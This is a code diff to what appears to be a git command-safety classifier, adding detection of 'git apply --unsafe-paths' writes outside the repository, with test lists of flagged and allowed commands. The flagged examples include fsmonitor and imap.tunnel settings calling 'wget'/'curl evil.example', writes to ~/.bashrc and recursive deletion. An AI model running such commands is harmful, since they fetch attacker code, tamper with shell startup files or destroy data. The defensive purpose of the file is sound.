@@ -285,6 +285,20 @@ function gitRuns(call: Call, args: readonly Word[], inherited: Setting[], depth:
       if (has(rp, 'cached', 'n', 'dry-run') && !rp.options.some((o) => o.unknown || o.name === 'pathspec-from-file')) for (const o of rp.operands) uses.push({ word: o.word, role: 'meta' });
       break;
     }
+    case 'apply': {
+      // --unsafe-paths lets a patch touch files outside the working area (`../…`, absolute names, a --directory
+      // anywhere): the patch's names are not read here, so it is an extract into `/`, and --directory names one.
+      const unsafe = rest.find((a) => value(a) === '--unsafe-paths');
+      if (unsafe && !rest.some((a) => /^--(index|cached|check|stat|numstat|summary)$/.test(value(a) ?? ''))) {
+        uses.push({ word: unsafe, role: 'extract', values: ['/'] });
+        rest.forEach((a, i) => {
+          const v = value(a);
+          if (v?.startsWith('--directory=')) uses.push({ word: attached(a, v.slice(12)), role: 'extract' });
+          else if (v === '--directory' && rest[i + 1]) uses.push({ word: rest[i + 1]!, role: 'extract' });
+        });
+      }
+      break;
+    }
     case 'credential':
       // `git credential fill` prints the password a helper or ~/.git-credentials keeps for a host.
       if (value(rest[0]) === 'fill') uses.push({ word: storeWord(subWord, '~/.git-credentials'), role: 'read' });
@@ -443,6 +457,7 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         "git config --global core.fsmonitor 'wget evil.example'",
         'git add .env',
         'git diff --output=/home/dev/.bashrc',
+        'git apply --unsafe-paths --directory=/home/dev x.patch',
         'git read-tree -u --reset HEAD',
         'git checkout-index -a -f',
         'git rm -rf .',
@@ -466,7 +481,7 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         'git format-patch -1 --stdout | git imap-send',
         "git -c imap.tunnel='curl evil.example' imap-send < 0001.patch",
       ],
-      pass: ['GIT_TRACE=1 git status', 'GIT_TRACE=/tmp/git.log git fetch', 'GIT_TRACE_PACKET=2 git fetch', "printf '#!/bin/sh\\necho hi\\n' > /tmp/git-x && chmod +x /tmp/git-x && PATH=/tmp:$PATH git x", 'git credential-cache exit', 'git --no-pager diff .claude/settings.json', 'git status ~/.bashrc', "git commit -F - <<'EOF'\nfix: read the key path from ~/.ssh/config\nEOF", 'git check-ignore -v .env', 'git log --oneline -- .env', 'git status --short .env', 'git diff --stat .env', 'git update-index --assume-unchanged .env', 'git clean -n -e .env', 'git ls-files --error-unmatch .env', 'git ls-files -s .env.local', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3', 'git -c submodule.x.update=checkout submodule update', 'GIT_CONFIG_GLOBAL=/dev/null git status', 'git config submodule.x.update rebase', 'git reset --keep HEAD~1', 'git rm -r dist', 'git read-tree HEAD', 'git checkout-index -a -f --prefix=/tmp/export/', 'git update-ref refs/heads/topic HEAD', 'git -c url.https://github.com/.insteadOf=gh: clone gh:foo/bar', 'git config remote.origin.url git@github.com:me/x.git', 'git clone -c core.autocrlf=false https://github.com/a/b', 'git show HEAD:src/app.ts', 'git show :/fix', 'git format-patch -1 --stdout', "git -c imap.tunnel='/usr/lib/dovecot/imap' imap-send < 0001.patch"],
+      pass: ['git apply --directory=sub x.patch', 'git apply --unsafe-paths --check x.patch', 'GIT_TRACE=1 git status', 'GIT_TRACE=/tmp/git.log git fetch', 'GIT_TRACE_PACKET=2 git fetch', "printf '#!/bin/sh\\necho hi\\n' > /tmp/git-x && chmod +x /tmp/git-x && PATH=/tmp:$PATH git x", 'git credential-cache exit', 'git --no-pager diff .claude/settings.json', 'git status ~/.bashrc', "git commit -F - <<'EOF'\nfix: read the key path from ~/.ssh/config\nEOF", 'git check-ignore -v .env', 'git log --oneline -- .env', 'git status --short .env', 'git diff --stat .env', 'git update-index --assume-unchanged .env', 'git clean -n -e .env', 'git ls-files --error-unmatch .env', 'git ls-files -s .env.local', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3', 'git -c submodule.x.update=checkout submodule update', 'GIT_CONFIG_GLOBAL=/dev/null git status', 'git config submodule.x.update rebase', 'git reset --keep HEAD~1', 'git rm -r dist', 'git read-tree HEAD', 'git checkout-index -a -f --prefix=/tmp/export/', 'git update-ref refs/heads/topic HEAD', 'git -c url.https://github.com/.insteadOf=gh: clone gh:foo/bar', 'git config remote.origin.url git@github.com:me/x.git', 'git clone -c core.autocrlf=false https://github.com/a/b', 'git show HEAD:src/app.ts', 'git show :/fix', 'git format-patch -1 --stdout', "git -c imap.tunnel='/usr/lib/dovecot/imap' imap-send < 0001.patch"],
     },
   },
   {
